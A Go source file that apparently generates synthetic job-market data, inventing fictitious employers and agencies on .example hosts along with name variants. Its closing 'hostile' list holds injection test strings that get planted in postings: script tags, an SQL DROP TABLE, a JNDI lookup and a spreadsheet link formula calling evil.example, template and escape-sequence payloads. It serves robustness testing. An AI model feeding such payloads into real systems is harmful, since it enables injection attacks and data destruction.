package prose

import (
	"strconv"
	"strings"

	"jobmarket/ingest/market/dice"
)

// Employer is one invented employer. Its name is made of sounds and ends in
// "sim", so that nobody takes it for a firm that exists; its host lies under the
// reserved .example domain.
type Employer struct {
	Name   string // canonical: stem, sometimes with a second word
	Stem   string
	Domain int // index into schema.Domains
	Host   string
	Token  string // of its board: "sim-" and the host's first label

	seed           uint64
	product, users string
}

var (
	onsets = strings.Fields("Bru Cal Dra Eld Fen Gor Hal Ing Jor Kel Lum Mor Nar Orv Pel Qua Rav Ska Tor Ulm Vex Wen Xan Yar Zel Brin Crov Dest Faru Glim Hoth Ivar Juno Krel Lysk Mant Nuvo Ostr Plin Quel Rhea Stav Trev Uxor Vand Worl Yold Zint")
	middle = strings.Fields("a e i o u al en ir or un ave ema ilo ora uma ath est ind oxi ulk yra")
	ends   = strings.Fields("ndo rka vel mora tex quin lopp zar bra nix fola gund hest jara kolt mint pyro ruda sken tova vint wex yolk zumo dril fask")
)

// NewEmployer invents the employer of an ordinal in the market of a seed. No two
// ordinals of one market share a stem.
func NewEmployer(seed uint64, ordinal, domain int) Employer {
	// An odd step that shares no factor with the number of stems walks them all
	// before it meets one again.
	stems := len(onsets) * len(middle) * len(ends)
	start := dice.New(seed, 'n')
	at := (start.N(stems) + ordinal%stems*10007) % stems
	stem := onsets[at%len(onsets)] + middle[at/len(onsets)%len(middle)] + ends[at/len(onsets)/len(middle)] + "sim"
	if round := ordinal / stems; round > 0 {
		stem += strconv.Itoa(round + 1)
	}
	d := dice.New(seed, 'e', uint64(ordinal))
	f := &fields[domain]
	made := dice.Pick(&d, f.products)
	e := Employer{Name: stem, Stem: stem, Domain: domain, seed: d.Uint64(), product: made[0], users: made[1]}
	if d.Chance(0.45) {
		e.Name += " " + dice.Pick(&d, f.suffixes)
	}
	label := strings.ToLower(stem)
	e.Host, e.Token = label+".example", "sim-"+label
	return e
}

// NewAgency invents a staffing agency: it advertises other employers' openings.
func NewAgency(seed uint64, ordinal int) Employer {
	e := NewEmployer(seed, ordinal, DomainIndex("other"))
	d := dice.New(e.seed, 'a')
	e.Name = e.Stem + " " + dice.Pick(&d, []string{"Recruiting", "Talent Partners", "Staffing", "Search & Selection"})
	return e
}

// NewStem is the name under which the employer goes after a renaming. Host and
// board stay, as they do in life for a while.
func (e *Employer) NewStem() string {
	d := dice.New(e.seed, 'r')
	return dice.Pick(&d, onsets) + dice.Pick(&d, middle) + dice.Pick(&d, ends) + "sim" + " " + dice.Pick(&d, fields[e.Domain].suffixes)
}

// Variant is a form of the name as another source may write it: with a legal
// form, in capitals, without its second word.
func (e *Employer) Variant(d *dice.Dice) string {
	switch d.N(9) {
	case 0:
		return e.Name + ", Inc."
	case 1:
		return e.Name + " GmbH"
	case 2:
		return e.Name + " Ltd"
	case 3:
		return strings.ToUpper(e.Stem)
	case 4:
		return e.Stem
	}
	return e.Name
}

// hostile strings break what trusts its input. They are planted in titles,
// companies and places.
var hostile = []string{
	"</script><script>alert(1)</script>",
	"__f__alert(1)__f__",
	"'; DROP TABLE postings; --",
	"=HYPERLINK(\"https://evil.example\",\"pay\")",
	"\x1b[31mred\x1b[0m\x1b]0;title\x07",
	"\u202egnp.exe",
	"a\x00b",
	"🦀👩‍💻🏴‍☠️",
	"Z̸̡̛͚̓ä̷̜̦́l̵̰̐g̶̣̈́o̵̝͝",
	strings.Repeat("Donaudampfschiff", 24),
	"${jndi:ldap://evil.example/x}",
	"{{7*7}} %s %d \\u0000",
	"<img src=x onerror=alert(1)>",
	"&lt;b&gt;&amp;amp;",
}

// Hostile is one of the strings that break what trusts its input.
func Hostile(d *dice.Dice) string { return dice.Pick(d, hostile) }
